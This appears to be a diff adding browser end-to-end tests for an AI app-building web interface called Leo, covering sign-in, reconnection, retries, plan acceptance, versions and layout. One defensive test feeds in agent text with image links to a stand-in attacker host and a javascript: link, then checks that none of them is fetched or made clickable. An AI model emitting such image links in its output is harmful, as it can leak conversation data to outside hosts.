@@ -1,0 +1,426 @@
+import { afterAll, expect, test } from "vitest";
+import type { Fact } from "@leo/core/event.ts";
+import { failure } from "@leo/core/failure.ts";
+import { closeBrowser, withPage } from "./support/browser.ts";
+import { composer, progress, rowSeqs, signIn, timeline, untilSeq } from "./support/pages.ts";
+import { FAIL, FILES, FINISH, START, WORK } from "./support/scenario.ts";
+import { withStub, type Stub } from "./support/stub.ts";
+
+afterAll(closeBrowser);
+
+const runningApp = (stub: Stub, facts: Fact[] = [...START, ...WORK]) => {
+  const { app, generation } = stub.addApp("A todo list", "Todo list");
+  stub.emit(generation.id, ...facts);
+  return { app, generation, path: `${stub.url}/apps/${app.id}` };
+};
+
+const doneApp = (stub: Stub) => {
+  const made = runningApp(stub, [...START, ...WORK, ...FINISH]);
+  stub.versions.set(made.generation.id, { files: { ...FILES }, checks: [] });
+  return made;
+};
+
+const LOST_SOCKET = /WebSocket connection|ERR_INTERNET_DISCONNECTED|Failed to load resource/;
+
+test("signing in, asking and following the work to the running app", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      await signIn(page, stub.url);
+      const prompt = page.getByRole("textbox", { name: "What should Leo build?" });
+      await expect.poll(() => prompt.evaluate((element) => element === document.activeElement)).toBe(true);
+      await prompt.fill("A todo list");
+      await page.getByRole("button", { name: "Build it" }).click();
+      await progress(page).getByText("Next in the queue").waitFor();
+      const [generation] = stub.generations.values();
+      if (!generation) throw new Error("The page has sent no request.");
+
+      stub.emit(generation.id, ...START, ...WORK);
+      await timeline(page).getByText("src/components/AddTodo.tsx").waitFor();
+      stub.emit(generation.id, ...FINISH);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+      await page
+        .frameLocator('iframe[title="Preview"]')
+        .getByRole("heading", { name: "Todo list" })
+        .waitFor();
+      expect(await progress(page).count()).toBe(0);
+    }),
+  );
+});
+
+test("a wrong password is told in a sentence", async () => {
+  await withStub({}, (stub) =>
+    withPage({ allowedErrors: /status of 400/ }, async (page) => {
+      await page.goto(stub.url);
+      await page.getByLabel("E-mail").fill("dev@leo.local");
+      await page.getByLabel("Password").fill("not-this");
+      await page.getByRole("button", { name: "Sign in" }).click();
+      await page.getByRole("alert").getByText("E-mail and password do not match.").waitFor();
+    }),
+  );
+});
+
+test("an address that was opened signed out is there after signing in", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { path } = doneApp(stub);
+      await signIn(page, path);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+      expect(page.url()).toBe(path);
+    }),
+  );
+});
+
+test("a second try of the same submission carries the same idempotency key", async () => {
+  await withStub({}, (stub) =>
+    withPage({ allowedErrors: /Failed to load resource/ }, async (page) => {
+      const keys: (string | undefined)[] = [];
+      await page.route("**/api/apps", async (route) => {
+        if (route.request().method() !== "POST") return route.continue();
+        keys.push(route.request().headers()["idempotency-key"]);
+        return keys.length === 1 ? route.abort() : route.continue();
+      });
+      await signIn(page, stub.url);
+      await page.getByRole("textbox", { name: "What should Leo build?" }).fill("A todo list");
+      await page.getByRole("button", { name: "Build it" }).click();
+      await page.getByRole("alert").getByText("The server cannot be reached.").waitFor();
+      await page.getByRole("button", { name: "Build it" }).click();
+      await timeline(page).waitFor();
+      expect(keys).toHaveLength(2);
+      expect(keys[0]).toBeTruthy();
+      expect(keys[1]).toBe(keys[0]);
+    }),
+  );
+});
+
+test("a reload in the middle shows every row once and goes on", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = runningApp(stub);
+      await signIn(page, path);
+      const seen = stub.events.get(generation.id)?.length ?? 0;
+      await untilSeq(page, seen);
+      const before = await rowSeqs(page);
+      await page.reload();
+      await untilSeq(page, seen);
+      expect(await rowSeqs(page)).toEqual(before);
+      stub.emit(generation.id, ...FINISH);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+      const after = await rowSeqs(page);
+      expect(new Set(after).size).toBe(after.length);
+      expect(after.slice(0, before.length)).toEqual(before);
+    }),
+  );
+});
+
+test("a cut connection is told, keeps the page, and catches up without doubles", async () => {
+  await withStub({}, (stub) =>
+    withPage({ allowedErrors: LOST_SOCKET }, async (page) => {
+      const { generation, path } = runningApp(stub);
+      await signIn(page, path);
+      await timeline(page).getByText("npm run build").waitFor();
+      await page.context().setOffline(true);
+      await page.getByText("You are offline.").waitFor();
+      stub.dropSockets();
+      stub.emit(generation.id, ...FINISH);
+      await timeline(page).getByText("src/App.tsx").first().waitFor();
+      await page.context().setOffline(false);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+      await page.getByText("You are offline.").waitFor({ state: "detached" });
+      const seqs = await rowSeqs(page);
+      expect(new Set(seqs).size).toBe(seqs.length);
+    }),
+  );
+});
+
+test("a restarted server is found again by itself", async () => {
+  await withStub({}, (stub) =>
+    withPage({ allowedErrors: LOST_SOCKET }, async (page) => {
+      const { generation, path } = runningApp(stub);
+      await signIn(page, path);
+      await timeline(page).getByText("npm run build").waitFor();
+      stub.dropSockets();
+      stub.emit(generation.id, ...FINISH);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+    }),
+  );
+});
+
+test("two tabs on one generation show the same rows", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = runningApp(stub);
+      await signIn(page, path);
+      const other = await page.context().newPage();
+      await other.goto(path);
+      await timeline(other).getByText("npm run build").waitFor();
+      stub.emit(generation.id, ...FINISH);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+      await timeline(other).getByText("Version 1 is ready").waitFor();
+      expect(await rowSeqs(other)).toEqual(await rowSeqs(page));
+    }),
+  );
+});
+
+test("a failed run shows why, and Fix this sends the failed check back", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { app, path } = runningApp(stub, [...START, ...WORK, ...FAIL]);
+      await signIn(page, path);
+      await timeline(page).getByText("The app did not pass its checks").waitFor();
+      await page.getByRole("button", { name: "Fix this" }).click();
+      await progress(page).waitFor();
+      const [, followUp] = [...stub.generations.values()].filter(({ appId }) => appId === app.id);
+      expect(followUp?.prompt).toContain("A todo list");
+      expect(followUp?.prompt).toContain("Property 'txt' does not exist");
+    }),
+  );
+});
+
+test("Try again sends the same request as a new run", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = runningApp(stub, [
+        ...START,
+        { type: "state_changed", state: "failed", attempt: 1, failure: failure("capacity") },
+      ]);
+      await signIn(page, path);
+      await timeline(page).getByText("There was no free machine").waitFor();
+      expect(await page.getByRole("button", { name: "Fix this" }).count()).toBe(0);
+      await page.getByRole("button", { name: "Try again" }).click();
+      await progress(page).waitFor();
+      expect(stub.requests.map((request) => request.path)).toContain(
+        `/api/generations/${generation.id}/retry`,
+      );
+    }),
+  );
+});
+
+test("cancel tells its true progress", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = runningApp(stub);
+      await signIn(page, path);
+      await page.getByRole("button", { name: "Cancel" }).click();
+      await progress(page).getByText("Stopping: the agent saves what it has").waitFor();
+      expect(await page.getByRole("button", { name: "Cancel" }).isDisabled()).toBe(true);
+      stub.emit(generation.id, { type: "attempt_progress", attempt: 1, step: "stopping" });
+      await progress(page).getByText("Stopping: the machine is being taken down").waitFor();
+      stub.emit(generation.id, { type: "state_changed", state: "cancelled", attempt: 1 });
+      await timeline(page).getByText("Cancelled").waitFor();
+      await page.getByRole("button", { name: "Try again" }).waitFor();
+    }),
+  );
+});
+
+test("what is sent while the agent works goes to the agent, afterwards it starts a new version", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { app, generation, path } = runningApp(stub);
+      await signIn(page, path);
+      await timeline(page).getByText("npm run build").waitFor();
+      await composer(page).fill("Use blue");
+      await page.getByRole("button", { name: "Send", exact: true }).click();
+      await timeline(page).getByText("Use blue").waitFor();
+      expect(stub.requests.at(-1)?.path ?? "").not.toBe(`/api/apps/${app.id}/generations`);
+      stub.emit(generation.id, ...FINISH);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+      await composer(page).fill("Now green");
+      await page.getByRole("button", { name: "Send", exact: true }).click();
+      await timeline(page).getByText("Now green").waitFor();
+      await expect.poll(() => stub.generations.size).toBe(2);
+    }),
+  );
+});
+
+test("a proposed plan can be accepted", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = runningApp(stub, [
+        ...START,
+        { type: "plan_proposed", text: "1. A form\n2. A list" },
+      ]);
+      await signIn(page, path);
+      await progress(page).getByText("Waits for your word on the plan").waitFor();
+      await page.getByRole("button", { name: "Accept the plan" }).click();
+      await timeline(page).getByText("The plan is good. Build it.").waitFor();
+      expect(await page.getByRole("button", { name: "Accept the plan" }).count()).toBe(0);
+      expect(stub.requests.map((request) => request.path)).toContain(
+        `/api/generations/${generation.id}/messages`,
+      );
+    }),
+  );
+});
+
+test("an image in the agent's text is never fetched and a dangerous link is no link", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const asked: string[] = [];
+      page.on("request", (request) => asked.push(request.url()));
+      const { path } = runningApp(stub, [
+        ...START,
+        {
+          type: "agent_text",
+          blockId: "b",
+          done: true,
+          text: "Before ![secret](https://evil.example/?chat=1) after [click](javascript:alert(1)) <img src='https://evil.example/2'> end",
+        },
+      ]);
+      await signIn(page, path);
+      await timeline(page).getByText("Before").waitFor();
+      expect(await timeline(page).locator("img").count()).toBe(0);
+      expect(await timeline(page).locator("a[href^='javascript']").count()).toBe(0);
+      expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
+    }),
+  );
+});
+
+test("a link with a prompt fills the box and starts nothing", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      await signIn(page, `${stub.url}/?prompt=A%20clock`);
+      await expect
+        .poll(() => page.getByRole("textbox", { name: "What should Leo build?" }).inputValue())
+        .toBe("A clock");
+      expect(stub.generations.size).toBe(0);
+    }),
+  );
+});
+
+test("tab, file and line live in the address", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { path } = doneApp(stub);
+      await signIn(page, `${path}?tab=code&file=src/main.tsx&line=2`);
+      await page
+        .getByRole("region", { name: "Contents of src/main.tsx" })
+        .getByText("createRoot")
+        .first()
+        .waitFor();
+      await page.getByRole("treeitem", { name: "storage.ts" }).click();
+      await page.getByRole("region", { name: "Contents of src/lib/storage.ts" }).waitFor();
+      expect(new URL(page.url()).searchParams.get("file")).toBe("src/lib/storage.ts");
+      await page.goBack();
+      await page.getByRole("region", { name: "Contents of src/main.tsx" }).waitFor();
+    }),
+  );
+});
+
+test("an older version can be shown, compared and continued from", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { app, generation, path } = doneApp(stub);
+      const second = stub.addGeneration(app.id, "Add a filter");
+      stub.emit(second.id, ...START, ...WORK, ...FINISH);
+      stub.versions.set(second.id, { files: { ...FILES, "src/Filter.tsx": "export {};\n" }, checks: [] });
+      await signIn(page, `${path}?tab=versions`);
+      await page.getByRole("button", { name: "Compare version 2 with the one before" }).click();
+      await page.getByRole("region", { name: "src/Filter.tsx" }).getByText("new").waitFor();
+      await page.getByRole("tab", { name: "Versions" }).click();
+      await page.getByRole("button", { name: "Continue from here" }).click();
+      await composer(page).fill("Take another way");
+      await page.getByRole("button", { name: "Send", exact: true }).click();
+      await expect
+        .poll(
+          () => stub.requests.findLast((request) => request.path === `/api/apps/${app.id}/generations`)?.body,
+        )
+        .toMatchObject({ prompt: "Take another way", baseGenerationId: generation.id });
+    }),
+  );
+});
+
+test("the log has every event and can be filtered", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = doneApp(stub);
+      await signIn(page, `${path}?tab=log`);
+      await page.getByText(`${stub.events.get(generation.id)?.length} events`).waitFor();
+      await page.getByRole("searchbox", { name: "Filter the log" }).fill("addtodo");
+      await page.getByText(/^3 of \d+ events$/).waitFor();
+      expect(await page.locator("[data-log-seq]").count()).toBe(3);
+    }),
+  );
+});
+
+test("an app that takes the focus while it loads gives it back to whoever is writing", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = runningApp(stub);
+      await signIn(page, path);
+      await composer(page).fill("And then");
+      await composer(page).focus();
+      stub.emit(generation.id, ...FINISH);
+      await page.frameLocator('iframe[title="Preview"]').getByRole("textbox").focus();
+      await expect
+        .poll(() => composer(page).evaluate((element) => element === document.activeElement))
+        .toBe(true);
+    }),
+  );
+});
+
+test("a phone shows the conversation and the app in turn, without sideways scrolling", async () => {
+  await withStub({}, (stub) =>
+    withPage({ viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true }, async (page) => {
+      const { path } = doneApp(stub);
+      await signIn(page, path);
+      await timeline(page).getByText("Version 1 is ready").waitFor();
+      await page.getByRole("tab", { name: "Preview" }).click();
+      await page
+        .frameLocator('iframe[title="Preview"]')
+        .getByRole("heading", { name: "Todo list" })
+        .waitFor();
+      const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+      expect(await overflow()).toBe(0);
+      await page.getByRole("tab", { name: "Conversation" }).click();
+      await timeline(page).waitFor();
+      expect(await overflow()).toBe(0);
+    }),
+  );
+});
+
+test("an unknown app is not found", async () => {
+  await withStub({}, (stub) =>
+    withPage({ allowedErrors: /status of 404/ }, async (page) => {
+      await signIn(page, `${stub.url}/apps/6f9b3a52-8f5b-4e2c-9a1d-00000000dead`);
+      await page.getByRole("heading", { name: "Not found" }).waitFor();
+    }),
+  );
+});
+
+test("the title tells how the run stands", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { generation, path } = runningApp(stub);
+      await signIn(page, path);
+      await expect.poll(() => page.title()).toBe("Building: Todo list · Leo");
+      stub.emit(generation.id, ...FINISH);
+      await expect.poll(() => page.title()).toBe("Ready: Todo list · Leo");
+    }),
+  );
+});
+
+test("the palette opens with the keyboard and goes to an app", async () => {
+  await withStub({}, (stub) =>
+    withPage({}, async (page) => {
+      const { app } = doneApp(stub);
+      await signIn(page, stub.url);
+      await page.keyboard.press("Control+k");
+      await page.getByRole("combobox", { name: "Search and commands" }).fill("todo");
+      await page.getByRole("option", { name: "Todo list" }).waitFor();
+      await page.keyboard.press("Enter");
+      await page.waitForURL(`**/apps/${app.id}`);
+    }),
+  );
+});
+
+test("a scripted model is named on the home page and in the workspace", async () => {
+  await withStub({ modelIsMock: true }, (stub) =>
+    withPage({}, async (page) => {
+      const { path } = doneApp(stub);
+      await signIn(page, stub.url);
+      await page.getByText("Scripted model.").waitFor();
+      await page.goto(path);
+      await page.getByRole("button", { name: "Scripted model" }).click();
+      await page.getByText("No real model is connected.").waitFor();
+    }),
+  );
+});
